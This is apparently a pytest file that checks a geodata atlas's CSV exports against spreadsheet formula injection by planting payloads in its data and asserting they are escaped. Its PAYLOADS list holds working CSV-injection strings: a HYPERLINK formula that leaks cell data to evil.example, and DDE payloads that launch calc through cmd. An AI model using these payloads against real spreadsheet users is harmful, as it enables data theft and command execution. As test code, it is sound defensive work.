"""CSV for spreadsheets: every CSV the atlas writes opens in Excel as text, never as a formula."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import subprocess
import sys

import pytest

from geo.charts import build_charts
from geo.csvsafe import BOM, FORMULA_START, csv_bytes, safe_cell
from geo.dataset import load_dataset
from geo.rows import CHART_COLUMNS, chart_rows, to_csv_bytes
from tests.conftest import ROOT

# Each payload starts with a character a spreadsheet treats as the start of a formula.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?")
QUOTE = "=cmd|' /C calc'!A0 is what the hostile memo – with “curly” quotes – says."


def hostile_copy(data_copy):
    """The shipped data with formula payloads in text fields of figures, events and a source."""
    text = f"Formula test document.\n\n{QUOTE}\n"
    (data_copy / "sources" / "formula-doc.txt").write_text(text, encoding="utf-8")
    sources = json.loads((data_copy / "sources.json").read_text(encoding="utf-8"))
    base = dict(sources["sources"][0])
    base.update(
        id="formula-doc",
        file="sources/formula-doc.txt",
        original_file="formula-doc.txt",
        title=PAYLOADS[0],
        short_name=PAYLOADS[1],
        publisher=PAYLOADS[3],
        sha256=hashlib.sha256(text.encode()).hexdigest(),
    )
    sources["sources"].append(base)
    (data_copy / "sources.json").write_text(json.dumps(sources), encoding="utf-8")
    figures = json.loads((data_copy / "figures.json").read_text(encoding="utf-8"))
    for n, fig in enumerate(figures["figures"]):
        fig["label"] = PAYLOADS[n % len(PAYLOADS)]
        fig["unit"] = PAYLOADS[(n + 1) % len(PAYLOADS)]
        fig["qualifier"] = PAYLOADS[(n + 2) % len(PAYLOADS)]
    figures["figures"][0]["citations"] = [{"source": "formula-doc", "quote": QUOTE}]
    figures["figures"][0]["period_note"] = PAYLOADS[2]  # its period is no longer quoted
    figures["figures"][0]["date_note"] = PAYLOADS[4]
    (data_copy / "figures.json").write_text(json.dumps(figures), encoding="utf-8")
    events = json.loads((data_copy / "events.json").read_text(encoding="utf-8"))
    for n, ev in enumerate(events["events"]):
        ev["title"] = PAYLOADS[n % len(PAYLOADS)]
        ev["date_note"] = PAYLOADS[(n + 3) % len(PAYLOADS)]
    # A dated event: an undated one's date_phrase must be words of its (replaced) quote.
    first_dated = next(ev for ev in events["events"] if ev["date"])
    first_dated["citations"] = [{"source": "formula-doc", "quote": QUOTE}]
    (data_copy / "events.json").write_text(json.dumps(events), encoding="utf-8")
    claims = json.loads((data_copy / "claims.json").read_text(encoding="utf-8"))
    for n, claim in enumerate(claims["claims"]):
        claim["label"] = PAYLOADS[n % len(PAYLOADS)]
    claims["claims"][0]["citations"] = [{"source": "formula-doc", "quote": QUOTE}]
    (data_copy / "claims.json").write_text(json.dumps(claims), encoding="utf-8")
    disagreements = json.loads((data_copy / "disagreements.json").read_text(encoding="utf-8"))
    for n, d in enumerate(disagreements["disagreements"]):
        d["topic"] = PAYLOADS[n % len(PAYLOADS)]
        d["versions"][0]["value"] = PAYLOADS[(n + 1) % len(PAYLOADS)]
    (data_copy / "disagreements.json").write_text(json.dumps(disagreements), encoding="utf-8")
    return data_copy


def cells(raw: bytes) -> list[list[str]]:
    """Open CSV bytes as a spreadsheet would: the BOM must lead, then every row's cells."""
    assert raw.startswith(BOM.encode("utf-8")), "no UTF-8 byte-order mark"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) > 1
    return rows


def assert_no_formula(rows: list[list[str]]) -> int:
    """Every cell is safe; return how many cells were neutralised (they start with a quote)."""
    neutralised = 0
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            if cell.startswith(FORMULA_START):
                # Only a plain number may start with a sign.
                assert PLAIN_NUMBER.fullmatch(cell), (r, c, cell)
            if cell.startswith("'") and cell[1:].startswith(FORMULA_START):
                neutralised += 1
    return neutralised


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        (-4.5, -4.5),
        (7, 7),
        (None, None),
        ("a=b", "a=b"),
        ("‘quoted’ – dash", "‘quoted’ – dash"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_chart_csvs_of_a_hostile_copy_hold_no_formula(data_copy):
    ds = load_dataset(hostile_copy(data_copy))
    assert not ds.problems, ds.problems
    neutralised = 0
    for chart in build_charts(ds):
        rows = chart_rows(ds, chart)
        # The pages' download buttons and the charts ZIP both write through geo.rows.
        for raw in (to_csv_bytes(rows, CHART_COLUMNS), csv_bytes(CHART_COLUMNS, rows)):
            got = cells(raw)
            neutralised += assert_no_formula(got)
    assert neutralised > 0  # the payloads did reach the CSVs, and were neutralised there
    # The quote, with its en dash and curly quotes, survives verbatim after the one quote mark.
    flat = [
        c
        for chart in build_charts(ds)
        for row in cells(to_csv_bytes(chart_rows(ds, chart), CHART_COLUMNS))
        for c in row
    ]
    assert "'" + QUOTE in flat


@pytest.mark.slow  # starts a process
def test_data_pack_of_a_hostile_copy_holds_no_formula(data_copy, tmp_path):
    data = hostile_copy(data_copy)
    out = tmp_path / "pack"
    done = subprocess.run(
        [sys.executable, "-m", "geo", "export", str(out), "--data", str(data), "--no-charts"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    for name in ("figures.csv", "events.csv"):
        rows = cells((out / name).read_bytes())
        assert assert_no_formula(rows) > 0, name
        flat = [c for row in rows for c in row]
        for payload in PAYLOADS:
            assert "'" + payload.strip() in flat, (name, payload)
    events = (out / "events.csv").read_bytes().decode("utf-8-sig")
    assert "–" in events and "“curly”" in events  # en dash and curly quotes, not mojibake


@pytest.mark.parametrize("separator", [";", "\t", "|", ","])
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_separator_followed_by_a_formula_cannot_split_a_cell_into_a_live_one(separator, start):
    # A spreadsheet that splits on `separator` must still see one cell, beginning with x.
    text = f"x{separator}{start}1+1{separator}y"
    raw = csv_bytes(["cell", "n"], [{"cell": text, "n": 3}])
    body = raw.decode("utf-8-sig").splitlines()[1]
    assert body == f'"{text}",3'
    # Split naively on the separator outside double quotes, as such a spreadsheet does.
    cells_seen = next(csv.reader(io.StringIO(body), delimiter=separator))
    assert not any(c.startswith(start) for c in cells_seen), cells_seen
    assert cells(raw)[1] == [text, "3"]
